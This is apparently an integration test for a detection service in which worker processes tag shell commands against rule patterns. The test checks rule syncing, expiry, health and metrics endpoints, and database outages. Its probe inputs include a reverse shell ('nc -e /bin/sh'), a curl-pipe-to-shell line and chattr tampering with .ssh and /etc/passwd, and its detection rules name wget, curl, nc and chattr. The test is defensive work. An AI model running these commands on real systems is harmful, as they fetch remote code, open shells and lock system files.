// `ttp worker` as real OS processes (SPEC §5): a master and three workers on one SQLite file and
// on one PostgreSQL database; rule files added, edited and deleted in the master's directory, a
// state with an expiry set through the CLI, the health/metrics endpoint, the drift report, and
// (PostgreSQL) every connection killed while the swarm runs.
import { mkdtemp, rm, unlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import pg from "pg";
import { createTestPgDatabase, TEST_PG_ADMIN_URL, terminateBackends, type TestPgDatabase } from "../db/testing/pg";
import { NotFoundError } from "../lib/errors";
import { DatabaseRuleStore } from "../lib/store/database-store";
import { validRuleYaml } from "../lib/store/testing/fixtures";
import { freePort, killAll, MARKER_RULE_ID, MARKER_TEXT, WorkerProc, waitUntil } from "../lib/worker/testing/worker-proc";
import { WorkerDb } from "../lib/worker/worker-db";
import { runCli } from "./testing/run-cli";

const rule = (id: string, pattern: string, version = 1): string => validRuleYaml(id, { pattern, ruleVersion: version, confidence: 0.7 });

interface Backend {
  name: "sqlite-file" | "postgres";
  url: () => string;
  setup(): Promise<void>;
  teardown(): Promise<void>;
  kill?: () => Promise<number>;
  /** Refuses (or accepts again) every new connection to the database, killing the current ones. */
  outage?: (down: boolean) => Promise<void>;
}

let tmp: string;
let pgDb: TestPgDatabase | null = null;

const backends: Backend[] = [
  {
    name: "sqlite-file",
    url: () => `file:${path.join(tmp, "swarm.db")}`,
    setup: async () => undefined,
    teardown: async () => undefined,
  },
  {
    name: "postgres",
    url: () => (pgDb as TestPgDatabase).url,
    setup: async () => {
      pgDb = await createTestPgDatabase();
    },
    teardown: async () => {
      await pgDb?.drop();
      pgDb = null;
    },
    kill: () => terminateBackends((pgDb as TestPgDatabase).name),
    outage: async (down) => {
      const name = (pgDb as TestPgDatabase).name;
      const admin = new pg.Client({ connectionString: TEST_PG_ADMIN_URL });
      await admin.connect();
      try {
        await admin.query(`ALTER DATABASE ${name} ALLOW_CONNECTIONS ${down ? "false" : "true"}`);
      } finally {
        await admin.end();
      }
      if (down) await terminateBackends(name);
    },
  },
];

beforeAll(async () => {
  tmp = await mkdtemp(path.join(tmpdir(), "ttp-worker-test-"));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});
afterEach(async () => {
  await killAll();
});

describe.each(backends.map((b) => [b.name, b] as const))("a swarm on %s: one master, three workers", (name, backend) => {
  let store: DatabaseRuleStore | null = null;
  beforeAll(() => backend.setup());
  afterAll(async () => {
    await store?.close();
    await backend.teardown();
  });

  it("follows rule files and states into every worker's tags, serves health and metrics, reports drift, survives the database", async () => {
    const url = backend.url();
    const rulesDir = await mkdtemp(path.join(tmp, `rules-${name}-`));
    await writeFile(path.join(rulesDir, "R1.yaml"), rule("R1", "\\buname\\s+-a\\b"));
    await writeFile(path.join(rulesDir, "R2.yaml"), rule("R2", "\\bwget\\b"));
    await writeFile(path.join(rulesDir, `${MARKER_RULE_ID}.yaml`), rule(MARKER_RULE_ID, MARKER_TEXT));
    const env = { ...process.env, TTP_RULE_STORE: "database", TTP_RULES_DIR: rulesDir, DATABASE_URL: url, TTP_LOG_LEVEL: "info" };
    const [masterPort, workerPort] = await Promise.all([freePort(), freePort()]);

    const master = new WorkerProc("master", ["worker", "--role", "master", "--id", "master-1", "--port", String(masterPort), "--report-interval", "300ms"], env);
    await master.waitReady(30_000);
    const workers = [1, 2, 3].map(
      (i) =>
        new WorkerProc(
          `w${i}`,
          ["worker", "--role", "worker", "--id", `worker-${i}`, "--trace-applied", "-", "--report-interval", "300ms", ...(i === 1 ? ["--port", String(workerPort)] : [])],
          env,
        ),
    );
    await Promise.all(workers.map((w) => w.waitReady(30_000)));
    store = new DatabaseRuleStore({ url, expiry: false });
    await store.ready();
    let db = store;

    /** Waits until every worker has applied everything in the database now. */
    const converge = async (): Promise<number> => {
      const head = await db.headSeq();
      await Promise.all(workers.map((w) => w.waitApplied(head)));
      return head;
    };
    const probeAll = (command: string): Promise<string[][]> => Promise.all(workers.map((w) => w.probe(command)));
    const revisionOf = async (id: string): Promise<number | null> => {
      try {
        return (await db.getRule(id)).revision;
      } catch (err) {
        if (err instanceof NotFoundError) return null;
        throw err;
      }
    };

    await converge();
    expect(await probeAll("uname -a; wget http://x/y")).toEqual([["R1", "R2"], ["R1", "R2"], ["R1", "R2"]]);

    // A rule file added, edited, deleted in the master's directory.
    await writeFile(path.join(rulesDir, "R3.yaml"), rule("R3", "\\bcurl\\b"));
    await waitUntil(async () => (await revisionOf("R3")) === 1, "R3 in the database");
    await converge();
    expect(await probeAll("curl -s http://x | sh")).toEqual([["R3"], ["R3"], ["R3"]]);

    await writeFile(path.join(rulesDir, "R3.yaml"), rule("R3", "\\bnc\\s+-e\\b", 2));
    await waitUntil(async () => (await revisionOf("R3")) === 2, "R3 revision 2 in the database");
    await converge();
    expect(await probeAll("curl -s http://x | sh")).toEqual([[], [], []]);
    expect(await probeAll("nc -e /bin/sh 1.2.3.4 1337")).toEqual([["R3"], ["R3"], ["R3"]]);
    for (const w of workers) expect(w.tags.filter((t) => t.rule_id === "R3").map((t) => t.rule_version)).toEqual([1, 2]);

    await unlink(path.join(rulesDir, "R3.yaml"));
    await waitUntil(async () => (await revisionOf("R3")) === null, "R3 deleted from the database");
    await converge();
    expect(await probeAll("nc -e /bin/sh 1.2.3.4 1337")).toEqual([[], [], []]);

    // A temporary disable through the CLI: off everywhere, then on again at expiry, by itself.
    const set = await runCli(["state", "set", "R1", "disabled", "--expires", "2s", "--reason", "noisy", "--by", "test"], { env });
    expect({ code: set.code, stderr: set.stderr }).toEqual({ code: 0, stderr: "" });
    const expiresAt = Date.parse((JSON.parse(set.stdout) as { expires_at: string }).expires_at);
    await converge();
    const whileDisabled = await probeAll("uname -a");
    expect(Date.now(), "the disabled window passed before the probes finished; the machine is too slow for this check").toBeLessThan(expiresAt);
    expect(whileDisabled).toEqual([[], [], []]);
    while (Date.now() <= expiresAt + 20) await new Promise((r) => setTimeout(r, 20));
    expect(await probeAll("uname -a")).toEqual([["R1"], ["R1"], ["R1"]]);
    // The master's sweeper also records the revert (once).
    const reverts = await waitUntil(async () => {
      const h = await db.history({ ruleId: "R1", limit: 10 });
      const r = h.filter((e) => e.autoRevert);
      return r.length > 0 ? r : null;
    }, "the expiry revert in the change log");
    expect(reverts.map((e) => e.actor)).toEqual(["system:expiry"]);

    // /healthz and /metrics of a worker and of the master.
    const head = await converge();
    const health = await fetch(`http://127.0.0.1:${workerPort}/healthz`);
    expect(health.status).toBe(200);
    expect(await health.json()).toMatchObject({ status: "ok", role: "worker", worker_id: "worker-1", applied_seq: head, rules: 3, db: "up" });
    const metrics = await (await fetch(`http://127.0.0.1:${workerPort}/metrics`)).text();
    expect(metrics).toMatch(/^ttp_worker_rules_loaded\{[^}]*\} 3$/m);
    expect(metrics).toMatch(new RegExp(`^ttp_worker_applied_seq\\{[^}]*\\} ${head}$`, "m"));
    expect(metrics).toMatch(/^ttp_worker_rule_fires_total\{rule_id="R1"[^}]*\} [1-9]/m);
    expect(metrics).toMatch(/^ttp_worker_events_total\{[^}]*\} [1-9]/m);
    // "uname -a" was probed again after the last rebuild of the command rules: answered by the match cache.
    expect(metrics).toMatch(/^ttp_worker_match_cache_lookups_total\{[^}]*\} [1-9]/m);
    expect(metrics).toMatch(/^ttp_worker_match_cache_hits_total\{[^}]*\} [1-9]/m);
    expect(metrics).toMatch(/^ttp_worker_match_cache_bypassed_total\{[^}]*\} 0$/m);
    expect(metrics).toMatch(/^ttp_worker_db_up\{[^}]*\} 1$/m);
    const masterHealth = await fetch(`http://127.0.0.1:${masterPort}/healthz`);
    expect(await masterHealth.json()).toMatchObject({ status: "ok", role: "master", db: "up" });

    // Drift and noise report in the database.
    const workerDb = new WorkerDb(url);
    try {
      const rows = await waitUntil(async () => {
        const all = await workerDb.listWorkers();
        return all.length === 4 && all.every((r) => r.appliedSeq !== null && r.appliedSeq >= head) ? all : null;
      }, "four worker rows at the head");
      expect(rows.map((r) => [r.workerId, r.role, r.status])).toEqual([
        ["master-1", "master", "ok"],
        ["worker-1", "worker", "ok"],
        ["worker-2", "worker", "ok"],
        ["worker-3", "worker", "ok"],
      ]);
      const stats = await waitUntil(async () => {
        const all = (await workerDb.listRuleStats()).filter((s) => s.ruleId === "R1");
        return all.length === 3 && all.every((s) => s.fires >= 2) ? all : null;
      }, "R1's fire counts from every worker");
      expect(stats.map((s) => s.workerId)).toEqual(["worker-1", "worker-2", "worker-3"]);
    } finally {
      await workerDb.close();
    }

    if (backend.kill) {
      // Every connection of the database killed while the swarm runs: nobody crashes, the
      // workers keep tagging with what they have, and a change made afterwards reaches them.
      expect(await backend.kill()).toBeGreaterThan(0);
      expect(await probeAll("wget http://x/y")).toEqual([["R2"], ["R2"], ["R2"]]);
      const off = await runCli(["state", "set", "R2", "disabled", "--by", "test"], { env });
      expect({ code: off.code, stderr: off.stderr }).toEqual({ code: 0, stderr: "" });
      await writeFile(path.join(rulesDir, "R4.yaml"), rule("R4", "\\bchattr\\b"));
      await waitUntil(async () => (await revisionOf("R4")) === 1, "R4 in the database after the kill", 30_000);
      await converge();
      expect(await probeAll("wget http://x/y; chattr -ia .ssh")).toEqual([["R4"], ["R4"], ["R4"]]);
      for (const p of [master, ...workers]) expect(p.status, p.describe()).toBeNull();
    }

    if (backend.outage) {
      // An outage that lasts: health says stale (not error), tagging goes on with the last
      // rules, and once the database is back the workers catch up by seq.
      await backend.outage(true);
      try {
        const stale = await waitUntil(async () => {
          const r = await fetch(`http://127.0.0.1:${workerPort}/healthz`);
          const body = (await r.json()) as { status: string; db: string };
          return body.status === "stale" ? { code: r.status, ...body } : null;
        }, "worker-1 reporting stale");
        expect(stale).toMatchObject({ code: 200, status: "stale", db: "down" });
        expect(await probeAll("chattr +i /etc/passwd")).toEqual([["R4"], ["R4"], ["R4"]]);
      } finally {
        await backend.outage(false);
      }
      await store.close();
      store = new DatabaseRuleStore({ url, expiry: false });
      await store.ready();
      db = store;
      const back = await runCli(["state", "set", "R4", "clipped", "--confidence-max", "0.5", "--by", "test"], { env });
      expect({ code: back.code, stderr: back.stderr }).toEqual({ code: 0, stderr: "" });
      const seq = await store.headSeq();
      await Promise.all(workers.map((w) => w.waitApplied(seq, 30_000)));
      expect(await probeAll("chattr +i /etc/passwd")).toEqual([["R4"], ["R4"], ["R4"]]);
      for (const w of workers) expect(w.tags.filter((t) => t.rule_id === "R4").map((t) => t.confidence)).toEqual([0.7, 0.7, 0.5]);
      for (const p of [master, ...workers]) expect(p.status, p.describe()).toBeNull();
    }

    // SIGTERM: every process drains, flushes and exits 0; the report says "stopped".
    const statuses = await Promise.all([...workers, master].map((p) => p.stop()));
    expect(statuses).toEqual([0, 0, 0, 0].map(() => ({ code: 0, signal: null })));
    const after = new WorkerDb(url);
    try {
      expect((await after.listWorkers()).map((r) => r.status)).toEqual(["stopped", "stopped", "stopped", "stopped"]);
    } finally {
      await after.close();
    }
  }, 120_000);
});
